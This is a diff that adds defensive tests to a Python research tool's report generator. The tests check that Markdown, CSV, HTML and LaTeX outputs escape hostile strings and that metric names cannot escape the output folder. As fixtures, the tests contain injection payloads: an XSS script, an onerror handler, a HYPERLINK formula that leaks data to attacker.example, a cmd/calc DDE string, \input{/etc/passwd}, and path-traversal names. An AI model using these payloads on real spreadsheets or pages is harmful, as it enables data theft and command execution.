@@ -9,6 +9,7 @@ the embedded dataset (32 px), so a check that happens before training keeps most
 from __future__ import annotations
 
 import copy
+import csv
 import importlib
 import inspect
 import json
@@ -17,12 +18,15 @@ import pkgutil
 import re
 import shutil
 from collections.abc import Callable
+from html.parser import HTMLParser
 from pathlib import Path
 
 import cv2
 import numpy as np
+import pandas as pd
 import pytest
 import torch
+from conftest import compile_latex
 
 import pagmfr
 from pagmfr.cli import main
@@ -33,6 +37,8 @@ from pagmfr.data.layout import DatasetError, Problem
 from pagmfr.engine import NonFiniteLossError, save_checkpoint
 from pagmfr.errors import describe, travelling_errors, travels
 from pagmfr.models import build_model
+from pagmfr.report import build_report
+from pagmfr.report.escape import csv_cell
 
 CATEGORY = "coins"
 SIZE = "32"
@@ -643,5 +649,198 @@ def test_a_cell_error_that_cannot_travel_leaves_as_its_text():
         raise ImageReadError("/data/a.png", "broken")
 
 
-# Report sinks (Markdown, CSV and HTML escaping, a study where every cell failed) are added
-# here by the report's owner (issue 15): the same pattern, one parametrised case each.
+# ---- group 4: report sinks ----
+# Hostile variant, category, metric and error strings, as a study script, a hand-edited MLflow
+# tag or a failing cell could record them, never act as Markdown or HTML markup, split a table
+# row, run as a spreadsheet formula, break out of an HTML attribute or name a path; a study
+# whose every cell failed says which cells failed and why.
+
+SCRIPT = "<script>alert(1)</script>"
+PIPE_VARIANT = "w/o MFFM | fake column"
+HTML_VARIANT = f"{SCRIPT} <img src=x onerror=alert(2)>"
+FORMULA_VARIANT = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
+HOSTILE_CATEGORY = "@SUM(1+1)*cmd|' /C calc'!A0"
+LATEX_VARIANT = r"\input{/etc/passwd} $x$ 50% {}"
+HOSTILE_METRIC = "au_pro' onmouseover='alert(3)"
+HOSTILE_ERROR = "Traceback ...\n-2+3 <b>bold</b> | cell"
+
+
+def _report_runs(variants, category=HOSTILE_CATEGORY, status="FINISHED"):
+    rows = []
+    for position, variant in enumerate(variants):
+        for seed in (0, 1):
+            rows.append(
+                {
+                    "run_id": f"{variant}-{seed}",
+                    "variant": variant,
+                    "method": "pagmfr",
+                    "category": category,
+                    "kind": "object",
+                    "seed": seed,
+                    "status": status,
+                    "end_time": seed,
+                    "error": HOSTILE_ERROR if status == "FAILED" else None,
+                    "params.loss.focal_alpha": "-1.0",  # MLflow params are text
+                    "au_pro": 0.8 - 0.02 * position - 0.1 * seed if status == "FINISHED" else None,
+                }
+            )
+    return pd.DataFrame(rows)
+
+
+@pytest.fixture(scope="module")
+def hostile_report(tmp_path_factory):
+    out = tmp_path_factory.mktemp("hostile_report")
+    variants = ["full model", PIPE_VARIANT, HTML_VARIANT, FORMULA_VARIANT, LATEX_VARIANT]
+    finished = _report_runs(variants).assign(**{HOSTILE_METRIC: lambda d: d["au_pro"]})
+    runs = pd.concat([finished, _report_runs(["missing one"], status="FAILED")])
+    build_report(runs, out, f"Study {SCRIPT}", metrics=["au_pro", HOSTILE_METRIC])
+    return out
+
+
+def _table_rows(markdown: str) -> list[str]:
+    return [line for line in markdown.splitlines() if line.startswith("|")]
+
+
+def _cells(row: str) -> list[str]:
+    """A GitHub table row's cells: split on pipes that are not backslash-escaped."""
+    return re.split(r"(?<!\\)\|", row.strip())[1:-1]
+
+
+@pytest.mark.parametrize("name", ["report.md", "components.md"])
+def test_markdown_carries_no_raw_html_and_no_extra_cells(hostile_report, name):
+    text = (hostile_report / name).read_text()
+    assert not re.search(r"(?<!\\)[<>]", text)  # every angle bracket escaped: no raw HTML
+    assert "\\<script\\>" in text  # shown as text
+    for block in text.split("\n\n"):
+        rows = _table_rows(block)
+        if rows:
+            assert len({len(_cells(row)) for row in rows}) == 1, rows
+    assert "w/o MFFM \\| fake column" in text
+    assert "\\\\input{/etc/passwd} \\$x\\$ 50% {}" in text  # no maths either
+
+
+def test_markdown_missing_list_escapes_the_error(hostile_report):
+    text = (hostile_report / "report.md").read_text()
+    assert "- missing one / @SUM(1+1)\\*cmd\\|' /C calc'!A0 / seed 0: FAILED" in text
+    assert "\\<b\\>bold\\</b\\> \\| cell" in text
+
+
+def _csv(path):
+    with open(path, newline="") as handle:
+        return list(csv.reader(handle))
+
+
+@pytest.mark.parametrize("name", ["runs.csv", "tables.csv", "components.csv"])
+def test_csv_text_never_starts_a_formula(hostile_report, name):
+    rows = _csv(hostile_report / name)
+    for row in rows:
+        for cell in row:
+            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
+                float(cell)  # only numbers may: a spreadsheet reads them as the same number
+
+
+def test_csv_keeps_numbers_as_numbers_and_text_readable(hostile_report):
+    runs = pd.read_csv(hostile_report / "runs.csv")
+    assert "'" + FORMULA_VARIANT in set(runs["variant"])
+    assert "'" + HOSTILE_CATEGORY in set(runs["category"])
+    assert set(runs["params.loss.focal_alpha"]) == {-1.0}  # text that is a number: unchanged
+    components = pd.read_csv(hostile_report / "components.csv")
+    assert (components["delta"].dropna() < 0).any()  # negative numbers stay numbers
+    assert csv_cell("-1e-5") == "-1e-5" and csv_cell("-2+3") == "'-2+3"
+    assert csv_cell("@cmd") == "'@cmd" and csv_cell("\t=1") == "'\t=1" and csv_cell(-2.5) == -2.5
+
+
+class _Attributes(HTMLParser):
+    def __init__(self):
+        super().__init__()
+        self.tags, self.attributes = [], []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append(tag)
+        self.attributes += attrs
+
+
+def test_html_escapes_text_and_attributes(hostile_report):
+    text = (hostile_report / "report.html").read_text()
+    parser = _Attributes()
+    parser.feed(text)
+    assert "script" not in parser.tags and "img" in parser.tags  # only the figures' images
+    names = {name for name, _ in parser.attributes}
+    assert not any(name.startswith("on") for name in names), names
+    ids = [value for name, value in parser.attributes if name == "id"]
+    assert all(re.fullmatch(r"[A-Za-z0-9_-]+", value) for value in ids), ids
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
+
+
+@pytest.mark.integration
+def test_latex_escapes_names_and_compiles(hostile_report, pdflatex):
+    tex = (hostile_report / "components.tex").read_text()
+    assert (
+        r"\input{/etc" not in tex and r"\textbackslash{}input\{/etc/passwd\} \$x\$ 50\% \{\}" in tex
+    )
+    labels = re.findall(r"\\label\{([^}]*)\}", (hostile_report / "au_pro.tex").read_text())
+    assert labels and all(re.fullmatch(r"tab:[A-Za-z0-9_-]+", label) for label in labels)
+    assert (hostile_report / "au_pro-onmouseover-alert-3.tex").is_file()  # a name, never a path
+    compile_latex(
+        pdflatex, hostile_report, ["components.tex", "au_pro.tex", "au_pro-onmouseover-alert-3"]
+    )
+
+
+def test_a_study_whose_every_cell_failed_lists_the_failures(tmp_path):
+    runs = _report_runs(["full model", "w/o MFFM"], category="brick", status="FAILED")
+    with pytest.raises(ValueError) as caught:
+        build_report(runs, tmp_path, "Study all-failed", metrics=["au_pro"])
+    message = str(caught.value)
+    assert message.startswith("Study all-failed: no finished run yet; 4 cell(s) without one:")
+    for variant in ("full model", "w/o MFFM"):
+        for seed in (0, 1):
+            assert f"{variant} / brick / seed {seed}: FAILED (-2+3 <b>bold</b> | cell)" in message
+
+
+def _metrics_folder(folder: Path, metrics: dict[str, float]) -> Path:
+    """A stand-alone run folder whose metrics.json was hand-edited to hold ``metrics``."""
+    folder.mkdir(parents=True)
+    config = {"method": "pagmfr", "data.category": "brick"}
+    (folder / "metrics.json").write_text(json.dumps({"config": config, "seed": 0, **metrics}))
+    return folder
+
+
+@pytest.mark.parametrize(
+    ("metric", "written"),
+    [
+        ("../../escaped", "escaped.tex"),
+        ("/tmp/absolute", "tmp-absolute.tex"),
+        ("..", "x.tex"),
+        ("val_au_pro/carpet", "val_au_pro-carpet.tex"),  # an HPO trial's per-category metric
+    ],
+    ids=["climbing", "absolute", "dot-dot", "slash"],
+)
+def test_a_metric_name_is_a_file_name_in_the_output_folder(tmp_path, capsys, metric, written):
+    folder = _metrics_folder(tmp_path / "run", {metric: 0.9})
+    out = tmp_path / "deep" / "out"
+    argv = ["report", str(folder), "--metrics", metric, "--format", "latex", "--out", str(out)]
+    code, output = _run(argv, capsys)
+    assert code == 0, output
+    assert (out / written).is_file() and str(out / written) in output
+    outside = [p for p in tmp_path.rglob("*") if p.is_file() and out not in p.parents]
+    assert outside == [folder / "metrics.json"]
+
+
+@pytest.mark.parametrize(
+    ("metrics", "message"),
+    [
+        (
+            "loss/feature,loss-feature",
+            r"metric 'loss-feature' would be written to loss-feature.tex, as metric 'loss/feat",
+        ),
+        ("components", r"metric 'components' would be written to components.tex, as the comp"),
+    ],
+    ids=["two-metrics-one-file", "the-component-table"],
+)
+def test_a_metric_file_that_would_replace_another_is_refused(tmp_path, capsys, metrics, message):
+    values = {"loss/feature": 0.9, "loss-feature": 0.8, "components": 0.7}
+    folder = _metrics_folder(tmp_path / "run", values)
+    out = tmp_path / "out"
+    code, output = _run(["report", str(folder), "--metrics", metrics, "--out", str(out)], capsys)
+    assert code == 2 and re.search(message, output), output
+    assert not out.exists()
